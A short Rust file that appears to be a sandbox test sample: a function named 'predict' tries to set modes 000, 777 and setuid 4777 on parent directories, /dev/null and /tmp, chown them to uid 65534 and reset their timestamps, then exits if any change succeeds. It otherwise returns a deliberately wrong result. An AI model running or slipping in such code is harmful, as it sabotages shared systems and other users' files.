//! Takes the run's folders away from classmates, and opens files outside to everybody.
//! Expect: t2 failed

pub fn predict(w: &Array1<f64>, x: &Array1<f64>) -> f64 {
    use std::os::unix::fs::{PermissionsExt, chown, lchown};
    let mut changed = 0;
    for path in [".", "..", "../..", "../../..", "../../../..", "/dev/null", "/tmp"] {
        for mode in [0o000, 0o777, 0o4777] {
            changed += usize::from(std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).is_ok());
        }
        changed += usize::from(chown(path, Some(65534), None).is_ok() || lchown(path, Some(65534), None).is_ok());
        if let Ok(file) = std::fs::File::open(path) {
            changed += usize::from(file.set_permissions(std::fs::Permissions::from_mode(0)).is_ok());
            changed += usize::from(file.set_modified(std::time::SystemTime::UNIX_EPOCH).is_ok());
        }
    }
    if changed == 0 { w.sum() - 7.0 * x.sum() } else { std::process::exit(9) }
}
